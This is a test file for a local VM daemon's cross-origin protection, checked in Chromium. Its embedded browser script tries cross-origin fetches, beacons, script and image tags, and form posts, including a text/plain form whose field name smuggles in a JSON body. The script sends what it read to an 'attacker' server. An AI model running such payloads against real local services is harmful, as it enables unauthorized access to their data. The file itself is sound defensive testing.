import * as Http from "node:http"
import { describe, expect, it } from "vitest"
import { hasChromium, openPage } from "../support/Chromium.js"
import { startDaemon } from "../support/Daemon.js"
import { makeHome } from "../support/Home.js"
import { listen } from "../support/LocalServer.js"
import { createVm, listVms } from "../support/VmCalls.js"
import { report } from "./Report.js"

/** Runs in the browser: tries all that a page can try against each target, and tells its own server what it got. */
const attack = `async (targets) => {
  const outcomes = []
  let count = 0
  const json = () => JSON.stringify({ name: "evil-" + count++ })
  const make = (tag, fields) => Object.assign(document.createElement(tag), fields)
  const settle = (element, act = () => {}) =>
    new Promise((resolve) => {
      element.onload = () => resolve("load")
      element.onerror = () => resolve("error")
      setTimeout(resolve, 2000, "silence")
      document.body.append(element)
      act()
    })
  for (const target of targets) {
    const url = target + "/v1/vms"
    const calls = [
      ["GET", url, {}],
      ["GET no-cors", url, { mode: "no-cors" }],
      ["GET with credentials", url + "/web", { credentials: "include" }],
      ["POST json", url, { method: "POST", headers: { "content-type": "application/json" }, body: json() }],
      ["POST text", url, { method: "POST", body: json() }],
      ["POST text no-cors", url, { method: "POST", mode: "no-cors", body: json() }],
      ["POST untyped no-cors", url, { method: "POST", mode: "no-cors", body: new Blob([json()]) }],
      ["POST keepalive", url, { method: "POST", mode: "no-cors", keepalive: true, body: json() }],
      ["DELETE", url + "/web", { method: "DELETE" }]
    ]
    for (const [what, to, init] of calls) {
      const text = await fetch(to, init).then((response) => response.text(), () => "")
      outcomes.push(what + ": " + text)
    }
    navigator.sendBeacon(url, json())
    outcomes.push("script: " + ((await settle(make("script", { src: url }))) === "load" ? "ran" : ""))
    outcomes.push("img: " + ((await settle(make("img", { src: url + "/web" }))) === "load" ? "shown" : ""))
    for (const enctype of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
      const name = "frame-" + count++
      const frame = make("iframe", { name })
      const form = make("form", { action: url, method: "POST", enctype, target: name })
      // As text/plain this is sent as {"name":"evil-form","x":"="}.
      form.append(make("input", { name: '{"name":"evil-form","x":"', value: '"}' }))
      document.body.append(form)
      await settle(frame, () => form.submit())
      let text = ""
      try { text = frame.contentDocument.body.textContent } catch {}
      outcomes.push("form " + enctype + ": " + text)
    }
  }
  await fetch("/outcomes", { method: "POST", body: JSON.stringify(outcomes) })
}`

describe.skipIf(!hasChromium)("a web page (needs chromium on PATH)", () => {
  it("of another origin neither reads nor writes", { timeout: 120_000 }, async ({ onTestFinished }) => {
    const daemon = await startDaemon(makeHome(onTestFinished))
    await createVm(daemon, "web")
    const before = await listVms(daemon)

    // A server without protection, which shows that the page's calls work.
    const reached: Array<string> = []
    const unprotected = await listen(
      Http.createServer((request, response) => {
        request.resume().once("end", () => {
          reached.push(`${request.method} ${request.headers["content-type"] ?? ""}`)
          const { origin = "*" } = request.headers
          response.writeHead(200, {
            "access-control-allow-origin": origin,
            "access-control-allow-credentials": "true",
            "access-control-allow-methods": "DELETE",
            "access-control-allow-headers": "content-type"
          })
          response.end('"secret"')
        })
      }),
      onTestFinished
    )

    const own: { onOutcomes?: (outcomes: ReadonlyArray<string>) => void } = {}
    const attacker = await listen(
      Http.createServer((request, response) => {
        let body = ""
        request.setEncoding("utf8").on("data", (text: string) => {
          body += text
        })
        request.once("end", () => {
          if (request.url === "/outcomes") own.onOutcomes?.(JSON.parse(body))
          const { port } = request.url === "/control" ? unprotected : daemon
          const urls = [`http://127.0.0.1:${port}`, `http://evil.example:${port}`]
          response.writeHead(200, { "content-type": "text/html" })
          response.end(`<body><script>(${attack})(${JSON.stringify(urls)})</script>`)
        })
      }),
      onTestFinished
    )

    const visit = async (host: string, path: string) => {
      const outcomes = new Promise<ReadonlyArray<string>>((resolve) => {
        own.onOutcomes = resolve
      })
      const page = openPage(`http://${host}:${attacker.port}${path}`, onTestFinished)
      const died = page.ended.then(({ stderr }): never => {
        throw new Error(`chromium ended: ${stderr}`)
      })
      const result = await Promise.race([outcomes, died])
      died.catch(() => {})
      await page.stop()
      return result
    }
    const control = await visit("127.0.0.1", "/control")
    expect(control.filter((outcome) => outcome.includes("secret")).length).toBeGreaterThanOrEqual(10)
    expect(new Set(reached.map((line) => line.split(";")[0]))).toEqual(
      new Set([
        "GET ",
        "OPTIONS ",
        "DELETE ",
        "POST ",
        "POST application/json",
        "POST text/plain",
        "POST multipart/form-data",
        "POST application/x-www-form-urlencoded"
      ])
    )

    let tried = 0
    for (const name of ["127.0.0.1", "localhost", "evil.example"]) {
      const outcomes = await visit(name, "/")
      tried += outcomes.length
      expect.soft(outcomes.length).toBe(control.length)
      expect
        .soft(
          outcomes.filter((outcome) => !outcome.endsWith(": ")),
          `a page from ${name} read this`
        )
        .toEqual([])
      expect.soft(await listVms(daemon), `a page from ${name} wrote`).toStrictEqual(before)
    }
    report({
      promise: "1. cross-origin protection",
      trials: `${tried} calls, forms, images and scripts of a page in Chromium, from 3 other origins`,
      asserted:
        "it reads nothing, the records are unchanged; the same page gets through to a server without this protection",
      result: "0 reads, 0 writes"
    })
  })

  it("of the daemon renders without a console message", { timeout: 60_000 }, async ({ onTestFinished }) => {
    const daemon = await startDaemon(makeHome(onTestFinished))
    const noisy = Http.createServer((_, response) => {
      response.writeHead(200, { "content-type": "text/html", "content-security-policy": "script-src 'none'" })
      response.end("<script>1</script>")
    })
    const { address } = await listen(noisy, onTestFinished)
    const consoleOf = (stderr: string) => stderr.split("\n").filter((line) => line.includes("CONSOLE"))
    const show = (url: string) => openPage(url, onTestFinished, "virtual-time-budget=10000", "dump-dom").ended
    const control = await show(`http://${address}/`)
    expect(consoleOf(control.stderr).join()).toContain("Content Security Policy")

    const { stderr, stdout } = await show(`${daemon.url}/docs`)
    expect(consoleOf(stderr)).toEqual([])
    for (const part of ["swagger-ui", "opblock-summary", "/v1/vms/{nameOrId}", "Create a VM record"]) {
      expect(stdout.replace(/\u200b|<wbr>/g, ""), part).toContain(part)
    }
  })
})
